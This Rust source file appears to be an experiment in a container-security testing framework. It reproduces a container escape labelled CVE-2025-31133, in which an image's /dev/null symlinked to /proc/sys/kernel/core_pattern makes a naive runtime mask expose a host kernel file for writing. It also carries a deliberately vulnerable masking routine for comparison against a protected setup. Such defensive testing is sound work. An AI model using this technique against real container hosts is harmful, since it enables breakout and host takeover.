//! A mask that uncovers.

use std::fs;
use std::os::unix::fs::symlink;

use chroot::Rootfs;
use clone_pid::{Container, IpcNamespace, Part, PidNamespace};
use ground::Result;
use ground::call::quietly;
use ground::lesson::{Experiment, Findings, Level};
use ground::needs::Need;
use mount_ns::{MountNamespace, Proc};
use nix::mount::{MsFlags, mount};

use crate::attack::{self, Escape, Outcome, PROBE, Protection, root, twice};
use crate::stage::protected;

pub const EXPERIMENT: Experiment = Experiment {
    name: "escape-mask-link",
    title: "an image whose /dev/null is a link has the runtime bind something else",
    level: Level::Deep,
    claims: &["C238"],
    needs: &[Need::InitialRoot, Need::Clone3],
    run,
};

pub const ESCAPE: Escape = Escape {
    name: "/dev/null of the image is a link",
    known: "CVE-2025-31133",
    open: "a runtime that masks a file with the /dev/null that the image has",
    closed: "masks made of nothing of the image's",
    needs: &[Need::InitialRoot],
    attempt,
};

const TARGET: &str = "/proc/sys/kernel/core_pattern";
const MASKED: &str = "/proc/interrupts";

fn run(findings: &mut Findings) -> Result<()> {
    twice(&ESCAPE, findings).map(drop)
}

/// runc's was a race; an image that is a link from the start wins it every time. Opened and not written.
fn attempt(protection: Protection) -> Result<Outcome> {
    let null = root()?.join("dev/null");
    quietly("make the link").run(|| symlink(TARGET, &null))?;
    let container = Container::new(&[PROBE, "open-write", MASKED])?
        .with(PidNamespace)
        .with(IpcNamespace)
        .with(MountNamespace::private())
        .with(Rootfs::new(root()?))
        .with(Proc)
        .capture()?;
    let outcome = match protection {
        Protection::Off => attack::run(container.with(NaiveMask).with(ReadOnlySys)),
        Protection::On => protected(container).and_then(attack::run),
    };
    quietly("remove the link").run(|| fs::remove_file(&null))?;
    // A runtime that finds the link makes no box at all.
    let Ok(text) = outcome else {
        return Ok(Outcome { out: false, said: "no box is made with it".into() });
    };
    let opened = text.contains("O_WRONLY) = 0");
    Ok(Outcome::of(&text, opened.then_some("opened core_pattern for writing")))
}

/// What the runtime does next: `/proc/sys` cannot be written by its own name.
struct ReadOnlySys;

impl Part for ReadOnlySys {
    fn enter(&mut self) -> Result<()> {
        let none = None::<&str>;
        let (bind, at) = (MsFlags::MS_BIND, "/proc/sys");
        quietly("mount /proc/sys").run(|| mount(Some(at), at, none, bind, none))?;
        let read_only = bind | MsFlags::MS_REMOUNT | MsFlags::MS_RDONLY;
        quietly("remount /proc/sys").run(|| mount(none, at, none, read_only, none))
    }
}

/// `mount --bind /dev/null /proc/interrupts`, by name: the link is followed.
struct NaiveMask;

impl Part for NaiveMask {
    fn enter(&mut self) -> Result<()> {
        let none = None::<&str>;
        quietly("mount the mask")
            .run(|| mount(Some("/dev/null"), MASKED, none, MsFlags::MS_BIND, none))
    }
}
